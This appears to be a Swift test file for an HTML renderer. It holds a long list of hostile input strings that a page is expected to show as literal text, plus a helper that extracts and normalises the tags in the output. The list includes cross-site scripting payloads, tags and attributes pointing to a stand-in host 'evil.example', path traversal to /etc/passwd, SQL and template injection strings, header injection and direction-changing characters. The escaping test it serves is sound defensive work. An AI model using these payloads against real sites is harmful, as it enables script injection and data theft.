/// Texts that a page must show as text: markup, scripts, ends of elements and attributes, characters that
/// are invisible or change the direction, and parts of other languages.
let hostileTexts: [String] =
  #"""
  <script>alert(1)</script>
  <SCRIPT SRC=//evil.example/x.js></SCRIPT>
  <scr<script>ipt>alert(1)</scr</script>ipt>
  <img src=x onerror=alert(1)>
  "><img src=x onerror=alert(1)>
  '><img src=x onerror=alert(1)>
  <svg onload=alert(1)>
  <svg/onload=alert(1)>
  <svg><script>alert(1)</script></svg>
  <svg><animate onbegin=alert(1) attributeName=x>
  <math><mi href="javascript:alert(1)">x</mi></math>
  <iframe src="javascript:alert(1)"></iframe>
  <iframe srcdoc="<script>alert(1)</script>">
  <object data="javascript:alert(1)">
  <embed src="javascript:alert(1)">
  <base href="http://evil.example/">
  <meta http-equiv="refresh" content="0;url=http://evil.example/">
  <link rel=stylesheet href=http://evil.example/x.css>
  <style>body{display:none}</style>
  <style>@import "http://evil.example/x.css";</style>
  <form action="http://evil.example/"><input name=form-secret>
  <button formaction="http://evil.example/">x</button>
  <input autofocus onfocus=alert(1)>
  <details open ontoggle=alert(1)>
  <video><source onerror=alert(1)>
  <audio src=x onerror=alert(1)>
  <body onload=alert(1)>
  <marquee onstart=alert(1)>
  <template><script>alert(1)</script></template>
  <noscript><img src=x onerror=alert(1)></noscript>
  <textarea></textarea><script>alert(1)</script>
  </textarea><script>alert(1)</script>
  </title><script>alert(1)</script>
  </style><script>alert(1)</script>
  </script><script>alert(1)</script>
  </main><b>
  </pre><h1>
  </code></details></table><p id="notice">
  </td></tr></table><b>
  <main>
  <title>x</title>
  <!--
  -->
  <!-- x --><b>
  <!DOCTYPE html>
  <?xml version="1.0"?>
  <![CDATA[<b>]]>
  ]]>
  &lt;b&gt;
  &amp;lt;b&amp;gt;
  &#60;script&#62;alert(1)&#60;/script&#62;
  &#x3c;b&#x3e;
  &quot;&apos;
  &nbsp;&copy
  &
  <
  >
  "
  '
  `
  ''
  ""
  ' onmouseover='x
  " onmouseover="x
  " autofocus onfocus="alert(1)
  x" style="display:none
  x' style='display:none
  `onmouseover=alert(1)
  = onload=alert(1)
  javascript:alert(1)
  java	script:alert(1)
  data:text/html,<script>alert(1)</script>
  vbscript:msgbox(1)
  //evil.example/
  http://evil.example/?a=b&c=d#e
  /../../etc/passwd
  ..%2f..%2fetc%2fpasswd
  %00
  %3Cscript%3Ealert(1)%3C/script%3E
  %
  %zz
  ?id=other
  #fragment
  &id=other
  + +
  a/b/c
  \
  \"
  \u003cscript\u003e
  {{7*7}}
  ${7*7}
  <%= 7*7 %>
  #{7*7}
  '; DROP TABLE run; --
  ' OR '1'='1
  %' OR id LIKE '%
  =HYPERLINK("http://evil.example/")
  +ADw-script+AD4-alert(1)+ADw-/script+AD4-
  U+202E
  <span class="hidden">U+202E</span>
  null
  true
  {"a":1}
  [1,
  -0
  1e999
  NaN
  """#.split(separator: "\n").map(String.init) + [
    "\u{202E}gpj.exe", "\u{2066}a\u{2069}", "\u{61C}\u{200E}\u{200F}", "\u{200B}\u{FEFF}\u{E0041}",
    "\u{2028}\u{2029}", "\u{FFFD}\u{FFFE}\u{10FFFF}", "a\u{0}b", "a\u{7}b\u{1B}[31mred",
    "\r\nSet-Cookie: a=b", "a\nb\tc", "\u{85}\u{9B}", "\u{AD}soft",
    "e\u{301}\u{302}\u{303}", "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", "\u{FB01}\u{0130}",
    "\u{FF1C}script\u{FF1E}",
  ]

/// The tags of a page.
enum HTMLTags {
  /// Returns each tag, with the names of its attributes in alphabetical order, without the signs for
  /// hidden characters.
  static func all(in html: String) -> [String] {
    let signs = /<span class="hidden">U\+[0-9A-F]+<\/span>/
    return html.replacing(signs, with: "").matches(of: /<[A-Za-z\/!?][^>]*>/).map { tag in
      let parts = tag.output.dropFirst().dropLast().replacing(/"[^"]*"/, with: "")
        .split { " \n=".contains($0) }
      return (parts.prefix(1) + parts.dropFirst().sorted()).joined(separator: " ")
    }
  }
}
